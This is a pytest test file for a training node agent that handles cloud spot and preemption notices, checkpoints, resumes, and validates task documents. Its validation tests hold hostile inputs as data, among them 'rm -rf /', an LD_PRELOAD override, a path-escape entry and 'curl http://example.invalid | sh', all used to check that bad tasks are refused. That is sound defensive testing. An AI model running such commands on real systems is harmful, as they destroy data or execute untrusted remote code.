"""The node agent (`python -m trainwise.agent`) on one host, against the IMDS test double.

The agent runs `examples/plain_loop/train.py` from a task document in a local object-store
folder. A spot instance-action injected mid-run must end with the job's checkpoint committed
within the notice, exit 143 from job and agent, and a status record naming the source and the
notice-to-exit seconds; a second start on an empty disk resumes from the store and ends with the
weights of an uninterrupted run (torch.equal). Also: a rebalance recommendation is recorded and
the job goes on; GCP and Azure notices are recognised; an unreachable endpoint falls back to
SIGTERM with a warning; a job that ignores the notice is SIGTERMed, then killed; a bad task
document is refused before anything starts; telemetry is in the store after the run.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
import torch

from benchmarks.imds_double import ImdsDouble
from tests.servers import free_port
from trainwise import settings
from trainwise.agent.imds import (
    AzureWatcher,
    Ec2Watcher,
    GcpWatcher,
    watcher_from_settings,
)
from trainwise.agent.task import TASK_FORMAT, AgentTaskError, parse_task, put_task, task_key
from trainwise.object_store import LocalObjectStore

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "plain_loop"
MAX_STEPS = 40
TIMEOUT_S = 180.0


def _env(**extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env["OMP_NUM_THREADS"] = env["MKL_NUM_THREADS"] = "1"
    env["PYTHONPATH"] = str(ROOT) + os.pathsep + env.get("PYTHONPATH", "")
    env.pop("TRAINWISE_RUN_SPEC", None)
    env.update(TRAINWISE_AGENT_METADATA="none", TRAINWISE_AGENT_METADATA_URL="",
               TRAINWISE_AGENT_POLL_S="0.2", TRAINWISE_AGENT_TELEMETRY_EVERY_S="1",
               TRAINWISE_AGENT_NOTICE_MARGIN_S="5")
    env.update(extra)
    return env


def _task(run_id: str, *, sleep_s: float, max_steps: int = MAX_STEPS) -> dict:
    return {"format": TASK_FORMAT, "run_id": run_id,
            "job": {"name": "blobs-classifier", "project_dir": str(EXAMPLE), "entry": "train.py",
                    "args": ["--max-steps", str(max_steps), "--checkpoint-every-steps", "10",
                             "--step-sleep-s", str(sleep_s)]},
            "spec": {"max_steps": max_steps, "checkpoint_every_steps": 10, "seed": 0}}


class Agent:
    """One agent process; its log (stderr) goes to a file beside the run folder."""

    def __init__(self, store: Path, run_id: str, run_dir: Path, env: dict[str, str],
                 *extra: str) -> None:
        self.run_dir, self.log_path = run_dir, run_dir.with_name(run_dir.name + ".agent.log")
        self.log_path.parent.mkdir(parents=True, exist_ok=True)
        with open(self.log_path, "wb") as log:
            self.process = subprocess.Popen(
                [sys.executable, "-m", "trainwise.agent", "--store", str(store), "--run-id",
                 run_id, "--run-dir", str(run_dir), *extra], cwd=ROOT, env=env, stdout=log,
                stderr=subprocess.STDOUT, start_new_session=True)

    @property
    def log(self) -> str:
        return self.log_path.read_text(errors="replace")

    @property
    def job_log(self) -> str:
        path = self.run_dir / "agent" / "job.log"
        return path.read_text(errors="replace") if path.exists() else ""

    def wait_for_step(self, step: int) -> None:
        deadline = time.monotonic() + TIMEOUT_S
        while f"step {step}\n" not in self.job_log:
            assert self.process.poll() is None, self.log[-3000:] + self.job_log[-3000:]
            assert time.monotonic() < deadline, f"no step {step}: {self.job_log[-2000:]}"
            time.sleep(0.05)

    def wait(self) -> int:
        try:
            return self.process.wait(timeout=TIMEOUT_S)
        finally:
            if self.process.poll() is None:
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait()

    @property
    def status(self) -> dict:
        return json.loads((self.run_dir / "agent" / "status.json").read_text())


def _final(run_dir: Path) -> dict:
    return torch.load(run_dir / "checkpoints" / "rank0" / f"step-{MAX_STEPS:07d}.pt",
                      map_location="cpu", weights_only=True)


def _committed(store: Path, run_id: str) -> dict[int, dict]:
    folder = store / "runs" / run_id / "checkpoints" / "rank0"
    return {int(p.name[5:12]): json.loads(p.read_text())
            for p in folder.glob("step-*.pt.commit")}


def _store_events(store: Path, status: dict) -> list[dict]:
    folder = store / status["telemetry_prefix"]
    return [json.loads(line) for path in sorted(folder.rglob("segment-*.jsonl"))
            for line in path.read_text().splitlines() if line.strip()]


def _assert_same(resumed: dict, reference: dict) -> None:
    assert resumed["step"] == reference["step"] == MAX_STEPS
    for name, tensor in reference["model"].items():
        assert torch.equal(resumed["model"][name], tensor), f"model weight {name} differs"
    for index, state in reference["optimizer"]["state"].items():
        for key, value in state.items():
            assert torch.equal(torch.as_tensor(resumed["optimizer"]["state"][index][key]),
                               torch.as_tensor(value)), f"optimizer state {index}.{key}"
    assert resumed["scheduler"] == reference["scheduler"]
    assert resumed["sampler"] == reference["sampler"]


@pytest.fixture(scope="module")
def reference(tmp_path_factory) -> dict:
    """An uninterrupted run of the example, started by hand (no agent)."""
    base = tmp_path_factory.mktemp("agent_reference")
    done = subprocess.run(
        [sys.executable, str(EXAMPLE / "train.py"), "--run-id", "agent-ref", "--run-dir",
         str(base / "run"), "--store-root", str(base / "store"), "--max-steps", str(MAX_STEPS),
         "--checkpoint-every-steps", "10"], env=_env(), capture_output=True, text=True,
        timeout=TIMEOUT_S)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    return _final(base / "run")


# -- the watchers against the double ---------------------------------------------------------------
def test_ec2_watcher_token_dance_rebalance_and_spot_action():
    with ImdsDouble() as imds:
        with pytest.raises(urllib.error.HTTPError) as no_token:  # IMDSv2 only
            urllib.request.urlopen(imds.url + Ec2Watcher.ACTION_PATH, timeout=2)
        assert no_token.value.code == 401
        watcher = Ec2Watcher(imds.url)
        watcher.probe()
        assert watcher.poll() is None
        imds.inject_rebalance()
        rebalance = watcher.poll()
        assert rebalance is not None and not rebalance.stops_job
        assert rebalance.source == "ec2 events/recommendations/rebalance"
        assert watcher.poll() is None  # recorded once
        imds.tokens.clear()  # the token lapsed: the watcher asks for a new one
        ends = imds.inject_spot("stop", in_s=120)
        notice = watcher.poll()
        assert notice is not None and notice.stops_job and notice.kind == "stop"
        assert notice.source == "ec2 spot/instance-action" and notice.detail["time"] == ends
        assert 100 < notice.ends_wall_s - notice.received_wall_s <= 121
        assert watcher.poll() is None
        assert ("GET", Ec2Watcher.ACTION_PATH, 401) in imds.requests


def test_gcp_preempted_is_recognised():
    with ImdsDouble() as imds:
        with pytest.raises(urllib.error.HTTPError) as no_header:
            urllib.request.urlopen(imds.url + GcpWatcher.PATH, timeout=2)
        assert no_header.value.code == 403
        watcher = GcpWatcher(imds.url)
        watcher.probe()
        assert watcher.poll() is None
        imds.inject_gcp_preempted()
        notice = watcher.poll()
        assert notice is not None and notice.stops_job and notice.kind == "preempt"
        assert notice.source == "gcp instance/preempted"
        assert notice.ends_wall_s - notice.received_wall_s == pytest.approx(30.0, abs=1)
        assert watcher.poll() is None


def test_azure_preempt_is_recognised_and_a_freeze_only_recorded():
    with ImdsDouble() as imds:
        watcher = AzureWatcher(imds.url)
        watcher.probe()
        assert watcher.poll() is None
        imds.inject_azure("Freeze", in_s=60)
        freeze = watcher.poll()
        assert freeze is not None and not freeze.stops_job and freeze.kind == "freeze"
        assert watcher.poll() is None
        imds.inject_azure("Preempt", in_s=30)
        notice = watcher.poll()
        assert notice is not None and notice.stops_job and notice.kind == "preempt"
        assert notice.source == "azure scheduledevents Preempt"
        assert 25 < notice.ends_wall_s - notice.received_wall_s <= 31


def test_unreachable_endpoint_names_itself_and_the_setting(monkeypatch, caplog):
    url = f"http://127.0.0.1:{free_port()}"
    monkeypatch.setenv("TRAINWISE_AGENT_METADATA", "ec2")
    monkeypatch.setenv("TRAINWISE_AGENT_METADATA_URL", url)
    choice = watcher_from_settings()
    assert choice.watcher is None and choice.describe == "SIGTERM only"
    assert url in choice.warning and "TRAINWISE_AGENT_METADATA_URL" in choice.warning
    assert "falling back to SIGTERM" in caplog.text
    monkeypatch.setenv("TRAINWISE_AGENT_METADATA", "aws")
    with pytest.raises(settings.SettingError, match="TRAINWISE_AGENT_METADATA='aws'.*ec2, gcp"):
        watcher_from_settings()


# -- the task document ---------------------------------------------------------------------------
def _bad(change) -> dict:
    task = _task("bad", sleep_s=0.0)
    change(task)
    return task


@pytest.mark.parametrize(("change", "names"), [
    (lambda t: t.update(command="rm -rf /"), ["'command'", "Fix"]),
    (lambda t: t["job"].update(env={"LD_PRELOAD": "x"}), ["'env'", "Fix"]),
    (lambda t: t["job"].update(args="--max-steps 40"), ["'args'", "array"]),
    (lambda t: t["job"].update(entry="../../bin/evil.py"), ["'job.entry'", "Fix"]),
    (lambda t: t["job"].update(entry="/usr/bin/python3"), ["'job.entry'", "Fix"]),
    (lambda t: t["job"].update(project_dir="examples/plain_loop"), ["'job.project_dir'", "Fix"]),
    (lambda t: t["spec"].update(run_dir="/tmp/x"), ["'spec.run_dir'", "Fix: remove it"]),
    (lambda t: t["spec"].update(max_stepz=3), ["max_stepz", "regenerate"]),
    (lambda t: t["spec"].update(max_steps="40"), ["max_steps", "regenerate"]),
    (lambda t: t["spec"].update(world_size=3), ["world_size", "multi-host"]),
    (lambda t: t.update(format="trainwise-agent-task/0"), ["'format'", "Fix"]),
], ids=["top-key", "job-env", "args-type", "entry-escape", "entry-absolute", "relative-project",
        "agent-field", "spec-field", "spec-type", "multi-host", "format"])
def test_bad_task_is_refused_naming_the_key_and_the_fix(change, names):
    with pytest.raises(AgentTaskError) as refused:
        parse_task(_bad(change))
    for name in names:
        assert name in str(refused.value)


def test_a_bad_task_in_the_store_starts_nothing(tmp_path):
    store = tmp_path / "store"
    task = _task("bad-task", sleep_s=0.0)
    task["job"]["shell"] = "curl http://example.invalid | sh"
    (store / task_key("bad-task")).parent.mkdir(parents=True)
    (store / task_key("bad-task")).write_text(json.dumps(task))
    agent = Agent(store, "bad-task", tmp_path / "run", _env())
    assert agent.wait() == 2
    assert "unknown key 'shell'" in agent.log and "Fix: remove or rename it" in agent.log
    assert not (tmp_path / "run" / "agent" / "job.log").exists()
    assert not (tmp_path / "run" / "telemetry").exists()
    assert agent.status["state"] == "refused" and "'shell'" in agent.status["error"]
    [stored] = (store / "runs" / "bad-task" / "agent" / "starts").glob("*/status.json")
    assert json.loads(stored.read_text())["state"] == "refused"


# -- the agent runs the job ----------------------------------------------------------------------
def test_spot_notice_checkpoints_within_it_and_an_empty_disk_resumes(tmp_path, reference):
    store, run_id = tmp_path / "store", "agent-spot"
    put_task(LocalObjectStore(store), _task(run_id, sleep_s=0.1))
    notice_s = 30.0
    with ImdsDouble() as imds:
        env = _env(TRAINWISE_AGENT_METADATA="ec2", TRAINWISE_AGENT_METADATA_URL=imds.url)
        first = Agent(store, run_id, tmp_path / "node-1", env, "--job", "blobs-classifier")
        first.wait_for_step(15)
        streamed = store / "runs" / run_id / "agent" / "starts"  # copied while the job runs
        deadline = time.monotonic() + 10
        while not list(streamed.glob("*/telemetry/*/rank0/segment-00000.jsonl")):
            assert time.monotonic() < deadline, "no telemetry in the store while the job ran"
            time.sleep(0.1)
        imds.inject_spot("terminate", in_s=notice_s)
        injected = time.time()
        assert first.wait() == 143, first.log[-3000:] + first.job_log[-3000:]
    seen_s = time.time() - injected
    status = first.status
    outcome = json.loads((tmp_path / "node-1" / "outcome-rank0.json").read_text())
    assert outcome["status"] == "preempted"
    stopped_at = outcome["step"]
    commits = _committed(store, run_id)
    assert stopped_at in commits and stopped_at > 15
    assert status["state"] == "preempted" and status["exit_code"] == 143
    assert status["notice"]["source"] == "ec2 spot/instance-action"
    assert status["notice"]["kind"] == "terminate"
    assert status["last_committed_step"] == stopped_at
    assert status["sigterm_sent_at"] is None and status["killed_at"] is None  # the file sufficed
    assert 0 < status["notice_to_commit_s"] <= status["notice_to_exit_s"] < notice_s - 5
    assert status["notice_to_exit_s"] < seen_s
    print(f"\nspot notice: to commit {status['notice_to_commit_s']} s, to the job's exit "
          f"{status['notice_to_exit_s']} s (of {notice_s:.0f} s), injection to the agent's "
          f"exit {seen_s:.2f} s; stopped at step {stopped_at}")
    [stored] = (store / "runs" / run_id / "agent" / "starts").glob("*/status.json")
    assert json.loads(stored.read_text()) == status
    events = _store_events(store, status)
    assert any(e["type"] == "preemption" for e in events)
    assert [e["status"] for e in events if e["type"] == "run_end"] == ["preempted"]
    assert max(e["step"] for e in events if e["type"] == "step") == stopped_at

    second = Agent(store, run_id, tmp_path / "node-2", _env())  # an empty disk, no metadata
    assert second.wait() == 0, second.log[-3000:] + second.job_log[-3000:]
    assert f"resumed True at step {stopped_at}" in second.job_log
    again = second.status
    assert again["state"] == "completed" and again["resumed_from_step"] == stopped_at
    assert again["notice"] is None and again["last_committed_step"] == MAX_STEPS
    _assert_same(_final(tmp_path / "node-2"), reference)
    later = _store_events(store, again)
    assert [e["status"] for e in later if e["type"] == "run_end"] == ["completed"]
    assert min(e["step"] for e in later if e["type"] == "step") == stopped_at + 1
    assert len(list((store / "runs" / run_id / "agent" / "starts").iterdir())) == 2


def test_a_rebalance_recommendation_is_recorded_checkpointed_and_the_job_goes_on(tmp_path):
    store, run_id = tmp_path / "store", "agent-rebalance"
    task = _task(run_id, sleep_s=0.02, max_steps=12)
    task["spec"]["fast_every_steps"] = 3  # the first fast tick: step 3, not an interval step
    put_task(LocalObjectStore(store), task)
    with ImdsDouble() as imds:
        imds.inject_rebalance()
        env = _env(TRAINWISE_AGENT_METADATA="ec2", TRAINWISE_AGENT_METADATA_URL=imds.url)
        agent = Agent(store, run_id, tmp_path / "node", env)
        assert agent.wait() == 0, agent.log[-3000:] + agent.job_log[-3000:]
    status = agent.status
    assert status["state"] == "completed" and status["notice"] is None
    [event] = status["events"]
    assert event["source"] == "ec2 events/recommendations/rebalance"
    assert event["stops_job"] is False and event["detail"]["noticeTime"] == imds.rebalance[
        "noticeTime"]
    assert status["watching"] == f"ec2 metadata at {imds.url} and SIGTERM"
    assert not (tmp_path / "node" / "agent" / "notice").exists()
    # The job checkpointed once for it, at its first fast tick, to the store, and went on.
    events = _store_events(store, status)
    reasons = [(e["step"], e["reason"]) for e in events if e["type"] == "checkpoint"]
    assert [r for r in reasons if r[1] == "rebalance"] == [(3, "rebalance")], reasons
    assert sorted(_committed(store, run_id)) == [3, 10, 12]


def test_unreachable_endpoint_falls_back_to_sigterm(tmp_path):
    store, run_id = tmp_path / "store", "agent-sigterm"
    put_task(LocalObjectStore(store), _task(run_id, sleep_s=0.1))
    url = f"http://127.0.0.1:{free_port()}"  # nothing listens there
    agent = Agent(store, run_id, tmp_path / "node",
                  _env(TRAINWISE_AGENT_METADATA="ec2", TRAINWISE_AGENT_METADATA_URL=url))
    agent.wait_for_step(5)
    assert f"the ec2 metadata endpoint {url} is unreachable" in agent.log
    assert "falling back to SIGTERM alone" in agent.log
    agent.process.send_signal(signal.SIGTERM)
    assert agent.wait() == 143, agent.log[-3000:]
    status = agent.status
    assert status["watching"] == "SIGTERM only" and url in status["metadata_warning"]
    assert status["notice"]["source"] == "SIGTERM" and status["state"] == "preempted"
    assert status["last_committed_step"] in _committed(store, run_id)
    assert status["last_committed_step"] >= 5
    print(f"\nSIGTERM to the agent: to commit {status['notice_to_commit_s']} s, to the job's "
          f"exit {status['notice_to_exit_s']} s")


def test_a_job_that_outlives_the_notice_is_sigtermed_then_killed(tmp_path):
    store, run_id = tmp_path / "store", "agent-stuck"
    put_task(LocalObjectStore(store), _task(run_id, sleep_s=20.0, max_steps=5))  # a long step
    with ImdsDouble() as imds:
        env = _env(TRAINWISE_AGENT_METADATA="ec2", TRAINWISE_AGENT_METADATA_URL=imds.url,
                   TRAINWISE_AGENT_NOTICE_MARGIN_S="1")
        agent = Agent(store, run_id, tmp_path / "node", env)
        agent.wait_for_step(1)
        imds.inject_spot("terminate", in_s=3)
        code = agent.wait()
    status = agent.status
    assert code == 128 + signal.SIGKILL and status["exit_code"] == code
    assert status["state"] == "failed"
    assert status["sigterm_sent_at"] is not None and status["killed_at"] is not None
    assert status["sigterm_sent_at"] < status["killed_at"]
    assert status["notice_to_exit_s"] < 3 + 1 + 1
